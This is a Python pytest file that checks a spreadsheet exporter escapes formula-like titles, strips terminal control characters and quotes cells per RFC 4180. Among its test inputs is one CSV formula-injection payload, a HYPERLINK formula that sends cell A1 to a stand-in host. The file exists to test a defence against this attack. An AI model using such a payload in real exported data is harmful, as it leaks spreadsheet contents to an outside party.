from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from newsieve.export.spreadsheet import STEERING, header, row, unguarded

NAMES = ("title", "tags", "similarity", "paywalled")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def record(title: str | None, **other: Any) -> dict[str, Any]:
    return {"title": title, "tags": [], "similarity": None, "paywalled": None} | other


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://x.example/?"&A1,"Read on")',
        "=1+1",
        "+44 20 7946 0000",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
    ],
)
def test_a_title_that_a_spreadsheet_would_compute_is_text(title: str) -> None:
    [[cell, *_]] = read(row(record(title), NAMES))
    assert cell == f"'{title}"
    assert unguarded(cell) == title


@pytest.mark.parametrize("title", ["'Tis the season", "A = B", "3-1", "“Quoted”, she said", " =1", ""])
def test_other_titles_stand_as_they_are(title: str) -> None:
    [[cell, *_]] = read(row(record(title), NAMES))
    assert cell == title


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_any_text_comes_back_without_what_would_steer_a_terminal(title: str) -> None:
    [[cell, *_]] = read(row(record(title), NAMES))
    assert unguarded(cell) == STEERING.sub("", title)


def test_lines_end_and_quotes_double_as_in_rfc_4180() -> None:
    assert header(NAMES) == "title,tags,similarity,paywalled\r\n"
    written = row(record('One\nand "two", three', tags=["a, b", "ü"], similarity=-0.5, paywalled=True), NAMES)
    assert written == '"One\nand ""two"", three","[""a, b"", ""ü""]",-0.5,true\r\n'


def test_null_is_an_empty_cell() -> None:
    assert row(record(None), NAMES) == ",[],,\r\n"
